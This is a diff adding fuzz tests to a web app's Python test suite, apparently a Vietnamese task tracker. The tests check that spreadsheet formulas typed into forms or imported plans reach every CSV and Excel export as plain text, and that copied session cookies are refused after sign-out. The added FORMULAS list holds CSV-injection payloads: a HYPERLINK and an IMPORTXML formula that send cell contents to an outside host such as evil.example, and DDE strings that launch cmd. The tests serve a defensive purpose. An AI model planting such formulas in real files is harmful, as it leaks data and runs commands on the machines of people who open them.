@@ -49,6 +49,15 @@ HOSTILE = [
     "2023-02-30", "31/12/9999", "0000-00-00", "2023-13-01", "1900-01-01",
     "Đại hội đại biểu Hội Nông dân huyện lần thứ XII",
 ]
+# Spreadsheet formulas (OWASP's CSV injection payloads and their kin): typed into any
+# field, they must reach every export as text (see test_formulas_*).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=1+1", "+1+1", "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+    "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+    "'=1+1", "''@x", "#N/A", "=", "-", "+", "@",
+]
+HOSTILE += FORMULAS
 
 text = st.one_of(
     st.sampled_from(HOSTILE),
@@ -728,6 +737,214 @@ def test_plan_import_confirm(client, admin, db, data, key):
     post_and_check(client, db, f"/quarters/{key}/import/confirm", data)
 
 
+# ----------------------------------------------------------------- sessions, limits
+
+
+@FUZZ
+@given(data=form({"anything": value}), which=st.one_of(
+    st.sampled_from(["own", "other", "missing"]), st.integers(-5, 10**6)))
+def test_end_session(client, admin, db, data, which):
+    from tracker.models import SignInSession
+
+    own = db.session.scalar(db.select(SignInSession.id).where(
+        SignInSession.user_id == admin.id, SignInSession.ended_at.is_(None)))
+    other = db.session.scalar(db.select(SignInSession.id).where(
+        SignInSession.user_id != admin.id))
+    session_id = {"own": own, "other": other, "missing": 10**9}.get(which, which)
+    if session_id is None or (isinstance(session_id, int) and session_id < 0):
+        session_id = 0
+    response = post_and_check(client, db, f"/account/sessions/{session_id}/end", data)
+    if which == "other" and other is not None:
+        assert response.status_code == 404
+    if response.status_code == 302 and response.headers["Location"] == "/login":
+        client.post("/login", data={"username": "admin_user",
+                                    "password": "secret-pass"})
+
+
+@FUZZ
+@given(data=form({"username": value, "address": value}))
+def test_lift_sign_in_limit(client, admin, db, data):
+    post_and_check(client, db, "/admin/sign-ins/lift", data,
+                   extra_pages=["/admin/sign-ins"])
+
+
+DEVICES = ("phone", "desk", "laptop")
+
+
+@settings(max_examples=25, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(remember=st.lists(st.booleans(), min_size=3, max_size=3),
+       steps=st.lists(st.tuples(st.sampled_from(["logout", "everywhere", "end",
+                                                 "password"]),
+                                st.sampled_from(DEVICES),
+                                st.sampled_from(DEVICES)), max_size=3))
+def test_cookie_replay_after_sign_out(app, db, make_user, remember, steps):
+    """Whatever signs a device out, copies of its cookies are then refused; the
+    devices still signed in keep working."""
+    from tracker.models import SignInSession
+
+    if not db.session.scalar(db.select(User).where(User.username == "replay")):
+        make_user("replay")
+    clients, copies, alive = {}, {}, {}
+    for device, keep in zip(DEVICES, remember):
+        client = app.test_client()
+        client.post("/login", data={"username": "replay", "password": "secret-pass",
+                                    **({"remember": "y"} if keep else {})},
+                    headers={"User-Agent": device})
+        clients[device] = client
+        copies[device] = {name: client.get_cookie(name).value
+                          for name in ("session", "remember_token")
+                          if client.get_cookie(name) is not None}
+        alive[device] = True
+    for action, device, target in steps:
+        client = clients[device]
+        if not alive[device]:
+            continue
+        if action == "logout":
+            client.post("/logout")
+            alive[device] = False
+        elif action == "everywhere":
+            client.post("/logout", data={"everywhere": "1"})
+            alive = dict.fromkeys(alive, False)
+        elif action == "end":
+            row = db.session.scalar(db.select(SignInSession.id).where(
+                SignInSession.user_agent == target, SignInSession.ended_at.is_(None)))
+            if row is not None:
+                client.post(f"/account/sessions/{row}/end")
+                alive[target] = False
+        else:
+            client.post("/account/password", data={
+                "current_password": "secret-pass", "new_password": "mot-mat-khau-moi",
+                "confirm": "mot-mat-khau-moi"})
+            alive = dict.fromkeys(alive, False)
+        db.session.rollback()
+    for device in DEVICES:
+        for name, cookie in copies[device].items():
+            replay = app.test_client()
+            replay.set_cookie(name, cookie)
+            status = replay.get("/quarters/").status_code
+            assert status == (200 if alive[device] else 302), (device, name, steps)
+    # The next example starts over with the same account.
+    db.session.execute(db.delete(SignInSession))
+    user = db.session.scalar(db.select(User).where(User.username == "replay"))
+    user.set_password("secret-pass")
+    db.session.commit()
+
+
+# ----------------------------------------------------------------- formulas
+
+
+def exports_hold_no_live_formula(client, quarters=("2023-Q1", "2023-Q2")):
+    """Open every export with openpyxl and the csv module: no formula anywhere."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from tracker.exports import FORMULA_STARTS, is_risky
+
+    files = []
+    for key in quarters:
+        files += [f"/quarters/{key}/tasks.csv", f"/quarters/{key}/report.xlsx",
+                  f"/quarters/import-template.xlsx?from={key}"]
+    files.append("/admin/audit.csv")
+    for path in files:
+        response = client.get(path)
+        assert response.status_code == 200, path
+        if ".csv" in path:
+            rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
+            for row in rows:
+                for cell in row:
+                    assert not cell.startswith(FORMULA_STARTS), (path, cell[:80])
+        else:
+            for sheet in load_workbook(io.BytesIO(response.data)).worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (path, sheet.title, cell.value)
+                        if is_risky(cell.value):
+                            assert cell.data_type == "s" and cell.quotePrefix, (
+                                path, cell.coordinate)
+
+
+formula = st.one_of(
+    st.sampled_from(FORMULAS),
+    st.builds(lambda start, rest: start + rest,
+              st.sampled_from(["=", "+", "-", "@", "'=", "''"]),
+              st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")),
+                      max_size=30)),
+)
+
+
+@settings(max_examples=6, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                 HealthCheck.too_slow])
+@given(formula=formula)
+def test_formulas_typed_into_every_form_reach_every_export_as_text(
+    client, admin, db, ids, units, formula
+):
+    """A formula in a task's text, a report, a share, a direction, a unit's name and
+    a person's name: every export holds it as text only."""
+    task = f"/tasks/{ids['congress']}"
+    bdv = units["BDV"]
+    answers = [
+        client.post("/tasks/new?quarter=2023-Q2", data={
+            "kind": "other", "title": formula.strip() or "=x", "lead_unit_id": bdv,
+            "result": formula, "description": formula, "source_document": formula,
+            "target_label": formula[:100]}),
+        client.post(f"/tasks/{ids['training']}/status", data={
+            "status": "in_progress", "progress": "40", "note": formula}),
+        client.post(f"/tasks/{ids['shared']}/share", data={
+            "unit_id": ids["share_units"][0], "share_status": "in_progress",
+            "share_note": formula}),
+        client.post(f"{task}/direction", data={"direction": formula}),
+        client.post(f"/admin/units/{units['HND']}", data={
+            "name": (formula.strip() or "=x") + " HND", "short_name": "HND",
+            "kind": "mass_org", "parent_id": "0", "sort_order": "3"}),
+        client.post(f"/admin/users/{_user_id(db, 'canbo_bdv')}", data={
+            "full_name": formula[:200], "role": "staff", "units": bdv}),
+        client.post("/quarters/2023-Q2/report", data={
+            "number": "", "signer_title": "head", "strengths": formula,
+            "signer_name": formula[:200]}),
+    ]
+    assert all(response.status_code in ANSWERS for response in answers)
+    exports_hold_no_live_formula(client)
+
+
+@settings(max_examples=6, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                 HealthCheck.too_slow])
+@given(cells=st.lists(formula, min_size=3, max_size=3),
+       as_xlsx=st.booleans())
+def test_formulas_through_the_import_stay_text_and_round_trip(
+    client, admin, db, cells, as_xlsx
+):
+    """A plan whose cells are formulas imports as text, exports as text, and the
+    export imports back to the same text."""
+    title = (CONTROL_CHARACTERS.sub("", " ".join(cells[0].split())) or "=x")[:400]
+    rows = _plan_rows([["training", title, "BDV", "", cells[1].strip(), "",
+                        cells[2].strip()[:100]]])
+    rows = [[CONTROL_CHARACTERS.sub("", cell) for cell in row] for row in rows]
+    content = _xlsx(rows) if as_xlsx else _csv(rows)
+    name = "ke-hoach.xlsx" if as_xlsx else "ke-hoach.csv"
+    preview = client.post("/quarters/2023-Q2/import",
+                          data={"file": (io.BytesIO(content), name)},
+                          content_type="multipart/form-data")
+    assert preview.status_code in (200, 400)
+    token = re.search(r'name="token" value="([^"]+)"', preview.get_data(as_text=True))
+    if token is None:
+        return  # refused with a message (e.g. already imported): nothing to check
+    client.post("/quarters/2023-Q2/import/confirm", data={"token": token.group(1)})
+    db.session.rollback()
+    stored = db.session.scalar(db.select(Task).where(Task.title == title))
+    assert stored is not None, title
+    exports_hold_no_live_formula(client, quarters=("2023-Q2",))
+    # What the export wrote, the import reads back the same.
+    from tracker.reports.imports import read_cells
+
+    exported = client.get("/quarters/2023-Q2/tasks.csv").data
+    cells_read = [cell for row in read_cells(exported, "x.csv") for cell in row]
+    assert title in cells_read
+
+
 # ----------------------------------------------------------------- coverage
 
 FUZZED = {
@@ -751,6 +968,8 @@ FUZZED = {
     "reports.organisation": test_organisation,
     "reports.import_plan": test_plan_import,
     "reports.confirm_import": test_plan_import_confirm,
+    "auth.end_session": test_end_session,
+    "admin.lift_sign_in_limit": test_lift_sign_in_limit,
 }
 
 
